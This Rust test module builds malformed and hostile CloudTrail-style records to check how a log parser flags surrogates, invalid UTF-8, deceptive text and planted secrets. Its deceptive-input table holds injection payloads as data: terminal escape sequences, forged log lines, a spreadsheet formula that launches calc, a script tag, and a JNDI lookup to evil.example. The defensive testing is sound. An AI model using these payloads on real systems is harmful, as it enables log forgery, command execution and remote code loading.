//! Texts that are no text, or that are meant to deceive.

use super::{
    Case,
    record::{Of, case, changed, record},
};

pub(super) fn cases() -> Vec<Case> {
    let mut cases = surrogates();
    cases.extend(not_utf8());
    cases.extend(deceiving());
    cases.extend(secrets());
    cases
}

fn surrogates() -> Vec<Case> {
    let replaced = || Of::kept(&["invalid_utf8"]);
    let rows: [(&str, &str, Of); 12] = [
        ("high", r#""a\ud800b""#, replaced()),
        ("low", r#""a\udc00b""#, replaced()),
        ("high-in-capitals", r#""a\uD83Db""#, replaced()),
        ("reversed", r#""\ude00\ud83d""#, replaced()),
        ("two-high", r#""\ud83d\ud83d""#, replaced()),
        ("at-the-end", r#""a\ud83d""#, replaced()),
        ("before-an-escape", r#""\ud83d\n""#, replaced()),
        ("before-another-letter", r#""\ud83d\u0041""#, replaced()),
        ("pair", r#""\ud83d\ude00""#, Of::kept(&[])),
        ("noncharacter", r#""\uffff\ufdd0""#, Of::kept(&[])),
        ("escaped-backslash", r#""\\ud800""#, Of::kept(&[])),
        ("nul", r#""a\u0000b""#, Of::kept(&[])),
    ];
    let mut cases: Vec<Case> = rows
        .into_iter()
        .map(|(name, text, of)| changed(format!("surrogate-{name}"), &[("userAgent", text)], of))
        .collect();
    for (name, field, value) in [
        ("region", "awsRegion", r#""us\ud800""#),
        ("error", "errorMessage", r#""\ud800""#),
        (
            "parameters",
            "requestParameters",
            r#"{"clusterIdentifier":"\ud800"}"#,
        ),
        ("key", "requestParameters", r#"{"\ud800":1}"#),
        ("unknown", "x", r#""\ud800""#),
        (
            "identity",
            "userIdentity",
            r#"{"type":"IAMUser","arn":"arn:aws:iam::1:user/\ud800"}"#,
        ),
    ] {
        let name = format!("surrogate-in-{name}");
        cases.push(changed(name, &[(field, value)], replaced()));
    }
    cases.push(changed(
        "surrogate-in-name",
        &[("eventName", r#""Delete\ud800""#)],
        Of::kept(&["invalid_utf8", "unknown_operation"]),
    ));
    let id = [("eventID", r#""odd\ud800""#)];
    cases.push(changed(
        "surrogate-in-id",
        &id,
        Of::kept_by_hash(record(&id).as_bytes(), &["invalid_utf8", "no_event_id"]),
    ));
    cases.push(changed(
        "surrogate-in-source",
        &[("eventSource", r#""redshift.amazonaws.com\ud800""#)],
        Of::NotSelected,
    ));
    cases.push(changed(
        "surrogate-in-time",
        &[("eventTime", r#""2026-03-02T09:00:00Z\ud800""#)],
        Of::Quarantined("no_event_time"),
    ));
    cases
}

/// A record in which a mark is replaced by bytes that are no UTF-8.
fn with_bytes(changes: &[(&str, &str)], bytes: &[u8]) -> Vec<u8> {
    const MARK: &str = "MARK";
    let text = record(changes);
    let (before, behind) = text.split_once(MARK).unwrap_or((&text, ""));
    [before.as_bytes(), bytes, behind.as_bytes()].concat()
}

fn not_utf8() -> Vec<Case> {
    let sequences: [(&str, &[u8]); 12] = [
        ("ff", b"\xff"),
        ("continuation", b"\x80"),
        ("overlong-slash", b"\xc0\xaf"),
        ("overlong-quote", b"\xc0\xa2"),
        ("overlong-3", b"\xe0\x80\xaf"),
        ("surrogate", b"\xed\xa0\x80"),
        ("cesu-8", b"\xed\xa0\xbd\xed\xb8\x80"),
        ("truncated-2", b"\xc3"),
        ("truncated-3", b"\xe2\x82"),
        ("truncated-4", b"\xf0\x9f\x98"),
        ("past-unicode", b"\xf4\x90\x80\x80"),
        ("latin-1", b"Jos\xe9"),
    ];
    let mut cases: Vec<Case> = sequences
        .into_iter()
        .map(|(name, bytes)| {
            let element = with_bytes(&[("userAgent", "\"MARK\"")], bytes);
            case(
                format!("bytes-{name}"),
                &element,
                Of::kept(&["invalid_utf8"]),
            )
        })
        .collect();
    let flag = || Of::kept(&["invalid_utf8"]);
    let hashed = with_bytes(&[("eventID", "\"MARK\"")], b"\xff");
    let rows: [(&str, &str, &str, Of); 9] = [
        ("key", "requestParameters", "{\"MARK\":1}", flag()),
        (
            "identity",
            "userIdentity",
            "{\"arn\":\"arn:aws:iam::1:user/MARK\"}",
            flag(),
        ),
        (
            "resource",
            "requestParameters",
            "{\"clusterIdentifier\":\"MARK\"}",
            flag(),
        ),
        ("unknown", "x", "\"MARK\"", flag()),
        (
            "name",
            "eventName",
            "\"DeleteMARK\"",
            Of::kept(&["invalid_utf8", "unknown_operation"]),
        ),
        (
            "id",
            "eventID",
            "\"MARK\"",
            Of::kept_by_hash(&hashed, &["invalid_utf8", "no_event_id"]),
        ),
        (
            "time",
            "eventTime",
            "\"2026-03-02T09:00:00ZMARK\"",
            Of::Quarantined("no_event_time"),
        ),
        (
            "source",
            "eventSource",
            "\"redshift.amazonaws.comMARK\"",
            Of::Quarantined("no_event_source"),
        ),
        (
            "other",
            "eventSource",
            "\"s3.amazonaws.com\",\"x\":\"MARK\"",
            Of::NotSelected,
        ),
    ];
    for (name, field, value, of) in rows {
        let element = with_bytes(&[(field, value)], b"\xff");
        cases.push(case(format!("bytes-in-{name}"), &element, of));
    }
    cases
}

/// What a person would see, were it shown as it is.
const DECEIVING: [(&str, &str); 14] = [
    ("clear-screen", r"\u001b[2J\u001b[H"),
    ("title", r"\u001b]0;owned\u0007"),
    ("hyperlink", r"\u001b]8;;http://evil.example\u001b\\\\click"),
    ("c1", "\u{9b}31m"),
    ("newlines", r"a\r\n2026-03-02 forged line\n"),
    ("backspaces", r"good\b\b\b\bevil"),
    ("nul", r"a\u0000b"),
    ("bidirectional", "\u{202e}nimda\u{202c}\u{2066}x\u{2069}"),
    ("invisible", "ad\u{200b}min\u{2060}\u{feff}\u{ad}"),
    ("tags", "\u{e0061}\u{e0062}"),
    ("formula", "=HYPERLINK(\\\"http://evil.example\\\")"),
    ("formula-plus", "+1+cmd|' /C calc'!A0"),
    ("markup", "<script>alert(1)</script>"),
    ("template", "${jndi:ldap://evil.example/a}{{7*7}}%s%n"),
];

fn deceiving() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, text) in DECEIVING {
        let value = format!("\"{text}\"");
        let identity = format!(
            r#"{{"type":"AssumedRole","principalId":"AROA:{text}","arn":"arn:aws:sts::111122223333:assumed-role/r/{text}","accountId":"{text}","userName":"{text}","invokedBy":"{text}","sessionContext":{{"sourceIdentity":"{text}","sessionIssuer":{{"arn":"arn:aws:iam::111122223333:role/{text}"}}}}}}"#
        );
        let parameters =
            format!(r#"{{"clusterIdentifier":"{text}","dbUser":"{text}","{text}":"{text}"}}"#);
        cases.push(changed(
            format!("deceiving-{name}"),
            &[
                ("userIdentity", &identity),
                ("eventName", &value),
                ("awsRegion", &value),
                ("sourceIPAddress", &value),
                ("userAgent", &value),
                ("errorCode", &value),
                ("errorMessage", &value),
                ("requestParameters", &parameters),
                ("responseElements", &parameters),
                ("eventType", &value),
                ("recipientAccountId", &value),
                ("sharedEventID", &value),
            ],
            Of::kept(&["unknown_operation"]),
        ));
    }
    cases
}

/// Stands in the record where nobody expects a secret; it must not come out.
pub const SECRET: &str = "hunter2-AKIAFAKE-secret";

fn secrets() -> Vec<Case> {
    let rows: [(&str, &str, String); 12] = [
        (
            "parameter",
            "requestParameters",
            format!(r#"{{"masterUserPassword":"{SECRET}"}}"#),
        ),
        (
            "parameter-unknown",
            "requestParameters",
            format!(r#"{{"newSecretThing":"{SECRET}"}}"#),
        ),
        (
            "parameter-name",
            "requestParameters",
            format!(r#"{{"{SECRET}":"x"}}"#),
        ),
        (
            "parameter-nested",
            "requestParameters",
            format!(r#"{{"a":{{"b":[{{"c":"{SECRET}"}}]}}}}"#),
        ),
        (
            "parameters-text",
            "requestParameters",
            format!("\"{SECRET}\""),
        ),
        (
            "parameters-array",
            "requestParameters",
            format!("[\"{SECRET}\"]"),
        ),
        (
            "response",
            "responseElements",
            format!(
                r#"{{"dbPassword":"{SECRET}","credentials":{{"secretAccessKey":"{SECRET}"}}}}"#
            ),
        ),
        (
            "additional",
            "additionalEventData",
            format!(r#"{{"x":"{SECRET}"}}"#),
        ),
        (
            "details",
            "serviceEventDetails",
            format!(r#"{{"x":"{SECRET}"}}"#),
        ),
        (
            "tls",
            "tlsDetails",
            format!(r#"{{"clientProvidedHostHeader":"{SECRET}"}}"#),
        ),
        ("request-id", "requestID", format!("\"{SECRET}\"")),
        ("unknown", "newMember", format!("\"{SECRET}\"")),
    ];
    rows.iter()
        .map(|(name, field, value)| {
            changed(
                format!("secret-{name}"),
                &[(*field, value.as_str())],
                Of::kept(&[]),
            )
        })
        .collect()
}
